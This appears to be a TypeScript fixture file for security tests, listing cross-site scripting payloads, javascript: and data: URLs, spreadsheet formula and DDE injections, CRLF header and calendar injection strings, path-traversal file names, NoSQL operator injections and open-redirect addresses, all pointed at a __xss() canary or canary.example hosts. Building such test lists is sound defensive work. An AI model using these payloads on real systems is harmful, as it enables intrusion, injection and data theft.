// What people with bad intentions write. One list for screens, mails, files and exports, so that a new trick is added once
// and tried everywhere. A payload that comes to life calls __xss() or asks for an address with "canary" in it.

/** Short enough for a phone number; each would run in one kind of careless page. */
const shortMarkup = [
  '<svg onload=__xss()>',
  '<b onclick=__xss()>b',
  '"onfocus=__xss() x="',
  "'-__xss()-'",
  '{{__xss()}}',
  '${__xss()}',
  '<%=__xss()%>',
  '<!--<p onx=',
  '[a](javascript:)',
];

/** For one line of text. */
const lineMarkup = [
  '<script>__xss()</script>',
  '</script><script>__xss()</script>',
  '</textarea><script>__xss()</script>',
  '</title><script>__xss()</script>',
  '--><script>__xss()</script>',
  ']]><script>__xss()</script>',
  '<ScRiPt>__xss()</sCrIpT>',
  '<script src=//canary.example/s>',
  '<img src=/canary onerror=__xss()>',
  '<img/src=/canary/onerror=__xss()>',
  '<img name=body src=/canary>',
  '<image href=/canary onerror=__xss()>',
  '<svg><script>__xss()</script></svg>',
  '<svg><animate onbegin=__xss() attributeName=x>',
  '<svg><a href=javascript:__xss()>x</a>',
  '<math><mtext><img src=/canary>',
  '<math href=javascript:__xss()>x',
  '<details open ontoggle=__xss()>',
  '<input autofocus onfocus=__xss()>',
  '<video src=/canary onerror=__xss()>',
  '<audio src=/canary onerror=__xss()>',
  '<iframe src=javascript:__xss()>',
  '<iframe srcdoc="<script>__xss()</script>">',
  '<object data=/canary></object>',
  '<embed src=/canary>',
  '<base href=//canary.example/>',
  '<link rel=stylesheet href=/canary.css>',
  '<meta http-equiv=refresh content=0;url=/canary>',
  '<style>@import "/canary.css"</style>',
  '<p style=background:url(/canary)>',
  '<p style="width:expression(__xss())">',
  '<form id=root action=/canary><input name=id>',
  '<form id=main name=getElementById>',
  '<a id=config href=data:text/html,x>x</a>',
  '<a href="java&#10;script:__xss()">x</a>',
  '<a href="&#x6A;avascript:__xss()">x</a>',
  '<template><img src=/canary></template>',
  '<noscript><p title="</noscript><img src=/canary>">',
  '" autofocus onfocus="__xss()',
  "' onmouseover='__xss()",
  '`onmouseover=__xss()`',
  '&lt;script&gt;__xss()&lt;/script&gt;',
  '\\u003cscript\\u003e__xss()\\u003c/script\\u003e',
  '%3Cscript%3E__xss()%3C/script%3E',
  '+ADw-script+AD4-__xss()+ADw-/script+AD4-',
  '＜script＞__xss()＜/script＞',
  '{{constructor.constructor("__xss()")()}}',
  '{{$on.constructor("__xss()")()}}',
  '#{__xss()} <%= __xss() %> $__xss()',
  '[x](javascript:__xss())',
  '[x](JaVaScRiPt:__xss())',
  '[x](&#106;avascript:__xss())',
  '[x](java&Tab;script:__xss())',
  '[x](javascript&colon;__xss())',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:__xss())',
  '[x](file:///etc/passwd)',
  '[x](blob:canary)',
  '[x](irc://canary.example)',
  '[x](tel:1 "onclick=__xss()")',
  '[x](/\\canary.example)',
  '![x](/canary.png)',
  '![x](javascript:__xss())',
  '<javascript:__xss()>',
  '<data:text/html,canary>',
  '[x]: javascript:__xss() [x]',
  '[<img src=/canary>](https://canary.example)',
  '__proto__',
  'constructor',
  'javascript:__xss()',
];

/** Only as part of several lines. */
const blockMarkup = [
  '<script>\n__xss()\n</script>',
  '<img\nsrc=/canary\nonerror=__xss()\n>',
  '[x][y]\n\n[y]: javascript:__xss()',
  '![x][z]\n\n[z]: /canary.png',
  '<div>\n\n[x](javascript:__xss())\n\n</div>',
  '[x](java\nscript:__xss())',
  '```html\n<script>__xss()</script>\n```',
  '    <script>__xss()</script>',
  '[x](https://example.jp/\n"onclick=__xss()")',
  `長い${'語'.repeat(300)}<script>__xss()</script>`,
];

/** Payloads of at most `max` characters. */
export const markupUpTo = (max: number): string[] =>
  [...lineMarkup, ...shortMarkup].filter((payload) => payload.length <= max);

/** All payloads in one text of several lines, beginning with the `from`th, as far as they fit into `max` characters. */
export function markupText(from: number, max: number): string {
  const all = [...blockMarkup, ...lineMarkup, ...shortMarkup];
  const turned = [...all.slice(from % all.length), ...all.slice(0, from % all.length)];
  let text = '';
  for (const payload of turned) if (text.length + payload.length + 2 <= max) text += `${payload}\n\n`;
  return text.trim();
}

export const markupCount = shortMarkup.length + lineMarkup.length + blockMarkup.length;

/** Addresses that must not become links, whatever field takes addresses. */
export const badAddresses = [
  'javascript:__xss()',
  ' javascript:__xss()',
  'JAVASCRIPT:__xss()',
  'java\tscript:__xss()',
  'java\nscript:__xss()',
  '\u0001javascript:__xss()',
  '\u00a0javascript:__xss()',
  '\u200bjavascript:__xss()',
  'ｊavascript:__xss()',
  'javascript&colon;__xss()',
  'javascript://example.jp/%0a__xss()',
  'data:text/html,<script>__xss()</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+',
  'vbscript:__xss()',
  'file:///etc/passwd',
  'blob:https://example.jp/1',
  'filesystem:https://example.jp/1',
  'about:blank',
  'view-source:https://example.jp',
  'ftp://example.jp',
  'irc://example.jp',
  'xmpp:a@example.jp',
  'intent://example.jp#Intent;scheme=http;end',
  'x:y',
  '//canary.example',
  '/\\canary.example',
  'https:/',
  'https://',
  'http:\\\\canary.example',
];

/** Addresses that a field takes, and that try to break out of an attribute, a header or a line. */
export const oddAddresses = [
  "https://canary.example/'onclick='__xss()",
  'https://canary.example/?a=1&lt;script&gt;',
  'https://canary.example/;ATTENDEE:mailto:evil@mail.example',
  'https://canary.example/javascript:__xss()',
];

/** Signs that no text may hold: ends of strings, what turns the line round, halves of characters. */
export const unwantedSigns = ['\u0000', '\u0007', '\u001b', '\u007f', '\u202e', '\u2066', '\ud800', '\udc00', '\uffff'];

/** Cells that a spreadsheet would run. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("//canary.example")',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  '＠A1',
];

/** Lines that would end a header, a cell or an entry of a calendar, if they came through. */
export const lineBreakers = [
  'x\r\nBcc: evil@mail.example',
  'x\nX-Evil: 1',
  'x\rX-Evil: 1',
  'x\u0085X-Evil: 1',
  'x\u2028X-Evil: 1',
  'x\u2029X-Evil: 1',
  'x\u0000X-Evil: 1',
  'x\u000bX-Evil: 1\u000cX-Evil: 1',
  'x%0d%0aX-Evil: 1',
  'x\\r\\nX-Evil: 1',
  'x嘊嘍X-Evil: 1',
  '"x" <evil@mail.example>, "y',
  'x>, <evil@mail.example',
  '=?utf-8?q?x=0d=0aX-Evil:_1?=',
  'x\r\n\r\n<script>__xss()</script>',
  'x\r\n.\r\nMAIL FROM:<evil@mail.example>',
  'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil',
  'x\r\nATTENDEE:mailto:evil@mail.example',
];

/** Names of files that try to leave their folder, to deceive the eye, or to write a header. */
export const fileNames = [
  '../../etc/passwd.txt',
  '..\\..\\windows\\win.ini.txt',
  '/etc/passwd.txt',
  '....//....//x.txt',
  '%2e%2e%2fx.txt',
  '．．／x.txt',
  '..∕..∕x.txt',
  'C:x.txt',
  '\\\\host\\share\\x.txt',
  'x.txt\u0000.png',
  'x\u202etxt.exe',
  'x\u2066txt.exe\u2069',
  'x.txt\r\nContent-Type: text/html\r\n\r\n<script>__xss()</script>',
  'x.txt";filename="x.html',
  "x.txt'; filename*=UTF-8''x.html",
  'x.txt; x=y',
  'x%22;.txt',
  'x\\".txt',
  '<img src=x onerror=__xss()>.txt',
  'x.pdf.html',
  'x.html',
  'x.svg',
  'x.txt ',
  'x.txt.',
  'x.txt...   ',
  'CON.txt',
  '.htaccess',
  '~.txt',
  'cafe\u0301.txt',
  'か\u3099.txt',
  'ﬁle.txt',
  'x.constructor',
  'x.__proto__',
  '__proto__',
  'x\ud800.txt',
  `${'長'.repeat(990)}.txt`,
  `x.${'a'.repeat(900)}`,
  '.'.repeat(900),
];

/** Operators of the database in place of text. */
export const operators: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000)' },
  { $regex: '.*' },
  { $function: { body: 'function(){return true}', args: [], lang: 'js' } },
  ['a'],
  { $oid: 'a'.repeat(24) },
];

/** Addresses after signing in that lead away from this site, if they are followed. */
export const awayAddresses = [
  '//canary.example',
  '///canary.example',
  '/\\canary.example',
  '/\t/canary.example',
  '/\n/canary.example',
  '/\r\\canary.example',
  '\t//canary.example',
  '\\\\canary.example',
  'https://canary.example',
  'https:canary.example',
  'javascript:__xss()',
  'data:text/html,<script>__xss()</script>',
  '/%2fcanary.example',
  '/%5ccanary.example',
  '/.//canary.example',
  '/..//canary.example',
  '/x/..//canary.example',
  '@canary.example',
  '.canary.example',
  '//canary.example%2f..',
];
